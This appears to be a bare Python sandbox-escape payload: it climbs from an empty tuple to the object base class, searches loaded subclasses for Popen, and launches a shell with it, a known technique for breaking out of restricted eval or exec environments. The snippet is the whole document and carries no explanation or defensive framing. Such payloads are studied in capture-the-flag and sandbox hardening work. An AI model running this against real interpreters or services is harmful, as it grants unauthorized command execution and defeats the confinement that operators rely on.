x = ().__class__.__bases__[0].__subclasses__()
for c in x:
    if c.__name__ == 'Popen':
        c(['sh'])
